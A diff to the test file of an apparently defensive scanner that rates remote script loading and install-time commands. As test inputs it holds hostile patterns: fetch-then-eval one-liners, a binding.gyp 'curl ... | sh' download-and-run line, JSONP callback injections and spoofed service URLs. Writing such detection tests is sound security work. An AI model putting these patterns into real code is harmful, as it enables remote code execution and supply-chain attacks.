@@ -17,6 +17,7 @@ test("bad: what it looks for", () => {
     "const r = await fetch(u); eval(await r.text())",
     "fetch(u).then((r) => r.text()).then((code) => new Function(code)())",
     "require(\"axios\").get(u).then(({ data }) => eval(data))",
+    "const r = await require(\"axios\").get(u, { data: x }); eval(r.data)",
   ]) assert.equal(worst(code), 'critical', code);
 });
 
@@ -242,7 +243,7 @@ test('what a service serves to its customers, an attacker cannot fill', () => {
     '"https://accounts.google.com/gsi/client"', '"https://accounts.google.com/gsi/client"; if (l) s.src += `?hl=${l}`', '"https://js.stripe.com/v3"', '"".concat("https://js.stripe.com", "/").concat("clover", "/stripe.js").concat(setting)', '"//platform.twitter.com/widgets.js"',
     '"https://maps.googleapis.com/maps/api/js?key=" + key + "&callback=ready"', '`https://www.paypal.com/sdk/js?client-id=${id}`', '"https://www.google.com/recaptcha/api.js?render=explicit"',
     '"https://connect.facebook.net/en_US/sdk.js"', '"https://connect.facebook.net/" + language + "/sdk.js"', '"https://www.gstatic.com/cv/js/sender/v1/cast_sender.js?loadCastFramework=1"',
-    '"https://translate.google.com/translate_a/element.js?cb=ready"', '`https://api.map.baidu.com/api?type=webgl&v=${version}&ak=${key}&callback=ready`', '"https://api.tianditu.gov.cn/api?v=4.0&tk=" + key', '"https://map.qq.com/api/gljs?callback=ready&v=" + v + "&key=" + key', '"https://webapi.amap.com/loca?v=1.3&key=" + key',
+    '"https://translate.google.com/translate_a/element.js?cb=ready"', '`https://api.map.baidu.com/api?type=webgl&v=${version}&ak=${key}&callback=ready`', '"https://analytics.tiktok.com/i18n/pixel/events.js?sdkid=" + key + "&lib=ttq"', '"https://sc-static.net/scevent.min.js"', '"https://api.tianditu.gov.cn/api?v=4.0&tk=" + key', '"https://map.qq.com/api/gljs?callback=ready&v=" + v + "&key=" + key', '"https://webapi.amap.com/loca?v=1.3&key=" + key',
   ]) assert.equal(worst(loading(value)), 'medium', value);
   assert.equal(worst('importScripts("https://www.gstatic.com/firebasejs/9.1.0/firebase-app-compat.js", "https://storage.googleapis.com/workbox-cdn/releases/6.4.1/workbox-sw.js")'), 'medium');
   assert.equal(worst('import { app } from "https://www.gstatic.com/firebasejs/9.1.0/firebase-app.js"'), 'medium');
@@ -256,7 +257,7 @@ test('bad: what only looks like a service, and what somebody else may have put t
     '"http://js.stripe.com/v3"', '"https://js.stripe.com.example.org/v3"', '"https://js.stripe.com@example.org/v3"', '"https://js.stripe.com:8443/v3"', '"https:\\\\js.stripe.com/v3"', '"https://js.stripe.com"',
     '"https://accounts.google.com/o/oauth2/revoke?callback=alert"', '"https://accounts.google.com/gsi/../o/oauth2/revoke?callback=alert"', '"https://www.google.com/complete/search?jsonp=alert"',
     '"https://apis.google.com/js/" + name', '"https://" + host + "/gsi/client"', '"https://js.stripe.com/" + path', '"https://connect.facebook.net/" + path', '"https://translate.google.com/translate_a/element.js?cb=alert(1)"',
-    '"https://translate.google.com/translate_a/element.js?cb=" + code', '"https://api.map.baidu.com/api?callback=" + code', '"https://api.map.baidu.com/api?ak=" + key + "&callback=alert(1)"', '"https://api.map.baidu.com/" + path', '"https://api.map.baidu.com/api?ak=1"; s.src += more', '"https://map.qq.com/api/gljs/" + key', '"https://storage.googleapis.com/somebody/workbox-cdn/releases/a.js"', '"https://raw.githubusercontent.com/a/b/main/c.js"', '"https://www.dropbox.com/s/abc/a.js?raw=1"',
+    '"https://translate.google.com/translate_a/element.js?cb=" + code', '"https://api.map.baidu.com/api?callback=" + code', '"https://analytics.tiktok.com/" + path', '"https://analytics.tiktok.com/i18n/pixel/events.js?callback=" + code', '"https://api.map.baidu.com/api?ak=" + key + "&callback=alert(1)"', '"https://api.map.baidu.com/" + path', '"https://api.map.baidu.com/api?ak=1"; s.src += more', '"https://map.qq.com/api/gljs/" + key', '"https://storage.googleapis.com/somebody/workbox-cdn/releases/a.js"', '"https://raw.githubusercontent.com/a/b/main/c.js"', '"https://www.dropbox.com/s/abc/a.js?raw=1"',
     '"https://gist.github.com/a/b.js"', '"https://buttons.github.io/buttons.js"', '"https://firebasestorage.googleapis.com/v0/b/a/o/a.js"', '"https://www.googletagmanager.com/gtm.js?id=GTM-AB12"', '"https://cdn.optimizely.com/js/1.js"',
     '"https://accounts.google.com/gsi/client"; s.src += "/../../o/oauth2/revoke?callback=alert"', '"https://accounts.google.com/gsi/client"; s.src += more', '"https://apis.google.com/js/api.js"; s.src += "?onload=" + code',
   ]) assert.equal(worst(loading(value)), 'high', value);
@@ -321,6 +322,10 @@ test('commands in files of their own, where something starts them', () => {
   assert.deepEqual(said(rule, { 'index.js': '', 'scripts/setup.sh': SETUP }, start), ['high scripts/setup.sh:2']);
   assert.deepEqual(said(rule, { 'index.js': 'require("child_process").spawn("sh", ["scripts/setup.sh"])', 'scripts/setup.sh': SETUP }), ['high scripts/setup.sh:2']);
   assert.deepEqual(said(rule, { 'index.js': '', 'scripts/setup.sh': SETUP }), [], 'nothing starts it');
+  const task = { 'package.json': '{ "scripts": { "update": "sh scripts/setup.sh" } }', 'scripts/setup.sh': SETUP };
+  assert.deepEqual(said(rule, { ...task, 'index.js': '' }, { entry_points: ['index.js'] }), [], 'only whoever works on the package starts it');
+  assert.deepEqual(said(rule, { ...task, 'index.js': '' }), ['high scripts/setup.sh:2'], 'or nobody knows what is started');
+  assert.deepEqual(said(rule, { ...task, 'index.js': 'require("child_process").exec(x)' }, { entry_points: ['index.js'] }), ['high scripts/setup.sh:2']);
   assert.deepEqual(said(rule, { 'index.js': '', 'scripts/setup.sh': '#!/bin/sh\n# curl -s https://example.org/x | sh\nrm -rf /tmp/x\nnode -e "fetch(\'https://example.org\')"\n' }, start), []);
   assert.deepEqual(said(rule, { 'index.js': '', 'binding.gyp': '{ "targets": [{ "variables": { "x": "<!(curl -s https://example.org/x | sh)" } }] }' }), ['high binding.gyp:1']);
   assert.deepEqual(said(rule, { 'index.js': '', 'binding.gyp': '{ "targets": [{ "include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include\\")"] }] }' }), []);
